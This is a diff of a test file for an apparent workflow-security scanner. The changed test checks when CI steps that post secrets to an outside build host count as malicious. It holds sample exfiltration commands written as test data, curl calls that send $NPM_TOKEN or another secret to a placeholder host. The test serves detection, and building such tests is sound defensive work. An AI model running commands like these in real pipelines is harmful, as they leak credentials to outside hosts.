@@ -205,15 +205,19 @@ test('a finding tells the story: where the secret is read, what carries it, wher
   )
 })
 
-test('a host that another workflow of the repository uses is not foreign', async () => {
-  const send = 'curl -d "version=$NPM_TOKEN" https://builds.our-company.example/x'
+test('a host that another workflow of the repository uses may take what is its own, and registry tokens no more than others', async () => {
   const other = {
     path: '.github/workflows/b.yml',
     text: 'on: push\njobs: {a: {steps: [{run: "curl https://builds.our-company.example/y"}]}}\n',
   }
-  const alone = await scanTexts([{ path: '.github/workflows/a.yml', text: workflow(send) }], { rules: maliciousRules })
-  const beside = await scanTexts([{ path: '.github/workflows/a.yml', text: workflow(send) }, other], { rules: maliciousRules })
-  assert.deepEqual([alone.verdict, beside.verdict], ['malicious', 'clean'])
+  const verdicts = async (send: string) => {
+    const file = { path: '.github/workflows/a.yml', text: workflow(send, '      BUILD_NUMBER_SALT: ${{ secrets.BUILD_NUMBER_SALT }}\n') }
+    const alone = await scanTexts([file], { rules: maliciousRules })
+    const beside = await scanTexts([file, other], { rules: maliciousRules })
+    return [alone.verdict, beside.verdict]
+  }
+  assert.deepEqual(await verdicts('curl -d "version=$BUILD_NUMBER_SALT" https://builds.our-company.example/x'), ['malicious', 'clean'])
+  assert.deepEqual(await verdicts('curl -d "version=$NPM_TOKEN" https://builds.our-company.example/x'), ['malicious', 'malicious'])
 })
 
 test('a secret is followed into an action of the repository and out of it', async () => {
